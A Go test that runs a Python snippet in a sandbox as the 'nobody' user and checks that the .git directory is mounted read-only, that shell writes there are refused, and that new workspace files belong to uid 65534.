func TestSandboxJailAsAnotherUser(t *testing.T) {
	t.Parallel()
	ws, run := asNobody(t)
	out, err := run("run", "-c", `import os
print("uid", os.getuid(), session.access.kernel["read_only_mounts"], session.access.kernel["read_only"])
try:
    open(".git/config", "w")
except OSError as e:
    print("git:", e.strerror)
open("made", "w").write("x")
r = shell("id -u; touch .git/x || echo refused")
print("shell", r.out.split(), r.kernel.seccomp)`)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	contains(t, "as nobody", out, "uid 65534 True ['"+filepath.Join(ws, ".git")+"']", "git: Read-only file system",
		"shell ['65534', 'refused'] True")
	if st, err := os.Stat(filepath.Join(ws, "made")); err != nil || st.Sys().(*syscall.Stat_t).Uid != 65534 {
		t.Errorf("the workspace file: %v", err)
	}
}
